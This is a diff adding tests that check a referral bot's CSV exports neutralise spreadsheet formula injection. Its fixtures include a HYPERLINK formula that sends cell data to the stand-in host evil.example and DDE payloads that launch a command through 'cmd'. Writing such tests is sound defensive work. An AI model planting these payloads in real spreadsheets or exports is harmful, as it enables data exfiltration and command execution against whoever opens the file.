@@ -197,3 +197,109 @@ def test_cli_bad_settings_exit_2_one_line(cli_env: Database, monkeypatch, capsys
 def test_cli_unwritable_out_exit_2(cli_env: Database, capsys):
     assert main(["export", "audit", "--out", "no/such/dir/a.csv"]) == 2
     assert capsys.readouterr().err.startswith("referral-bot: cannot write no/such/dir/a.csv")
+
+
+# A name, a reason and a detail a stranger (or Feishu, passing on what someone typed) could give.
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE = {
+    "name_zh": FORMULA,
+    "name_en": "+1+cmd|' /C calc'!A0",
+    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "mobile": "-2+3",
+    "contact": "\t=1+1",
+    "detail": "\r=1+1",
+}
+
+
+def hostile_seed(database: Database) -> None:
+    accounts = AccountBook(database)
+    referrer = Referrer(
+        "ou_evil", HOSTILE["name_zh"], HOSTILE["name_en"], HOSTILE["email"], HOSTILE["mobile"]
+    )
+    accounts.remember(
+        Account(
+            "6900009",
+            AccountStatus.ENABLED,
+            points=-5,
+            cash=(Cash("CNY", Decimal("-5")),),
+            referrer=referrer,
+        ),
+        seen_at=SEEN,
+        contact=HOSTILE["contact"],
+        registered_by="ou_admin",
+    )
+    book = WithdrawalBook(database)
+    request = book.create(
+        "6900009",
+        Kind.CASH,
+        Amounts(0, (Cash("CNY", Decimal("-5")),)),
+        requested_by="ou_admin",
+        chat_id="oc_hr",
+    )
+    book.approve(request.id, "ou_boss", then=lambda _: None)
+    book.failed(request.id, "-Feishu said =no")
+    AuditLog(database).record(
+        actor="ou_admin",
+        action="register",
+        outcome="=1+1",
+        account_id="6900009",
+        detail=HOSTILE["detail"],
+        chat_id="oc_hr",
+    )
+
+
+def assert_no_formula(table: list[dict[str, str]], numbers: tuple[str, ...]) -> None:
+    """No text cell starts as a formula would; the number columns hold plain numbers."""
+    for row in table:
+        for column, value in row.items():
+            if column in numbers:
+                assert value == "" or Decimal(value).is_finite(), (column, value)
+            else:
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+
+
+def test_text_that_reads_as_a_formula_is_neutralised_in_every_export(database: Database):
+    hostile_seed(database)
+    (account,) = rows(export("accounts", database))
+    assert account["referrer_name_zh"] == "'" + FORMULA
+    assert account["referrer_name_en"] == "'" + HOSTILE["name_en"]
+    assert account["referrer_email"] == "'" + HOSTILE["email"]
+    assert account["referrer_mobile"] == "'-2+3"
+    assert account["registered_with"] == "'\t=1+1"
+    # Numbers stay numbers, a negative amount included: a sum over the column still works.
+    assert (account["points"], account["cash_amount"]) == ("-5", "-5.00")
+    assert_no_formula([account], ("points", "cash_amount"))
+
+    (withdrawal,) = rows(export("withdrawals", database))
+    assert withdrawal["referrer_name_zh"] == "'" + FORMULA
+    assert withdrawal["error"] == "'-Feishu said =no"
+    assert withdrawal["cash_amount"] == "-5.00" and withdrawal["withdrawal_id"] == "1"
+    assert_no_formula([withdrawal], ("withdrawal_id", "points", "cash_amount"))
+
+    (entry,) = rows(export("audit", database))
+    assert entry["detail"] == "'\r=1+1" and entry["outcome"] == "'=1+1"
+    assert_no_formula([entry], ("id",))
+
+
+def test_a_cell_of_plain_text_or_a_number_is_left_alone():
+    from bot.cells import cell, neutralise
+
+    assert neutralise("Zhang San") == "Zhang San" and neutralise("") == ""
+    assert neutralise("a=b") == "a=b"  # only the first character makes a formula
+    assert [neutralise(c + "x") for c in "=+-@\t\r"] == ["'" + c + "x" for c in "=+-@\t\r"]
+    assert (cell(-5), cell(Decimal("-5.00")), cell(None), cell("-5")) == ("-5", "-5.00", "", "'-5")
+
+
+def test_cli_export_neutralises_formulas(cli_env: Database, capsysbinary):
+    hostile_seed(cli_env)
+    for kind, numbers in (
+        ("accounts", ("points", "cash_amount")),
+        ("withdrawals", ("withdrawal_id", "points", "cash_amount")),
+        ("audit", ("id",)),
+    ):
+        assert main(["export", kind]) == 0
+        out = capsysbinary.readouterr().out
+        assert out == export(kind, cli_env)
+        table = rows(out)
+        assert len(table) >= 2
+        assert_no_formula(table, numbers)
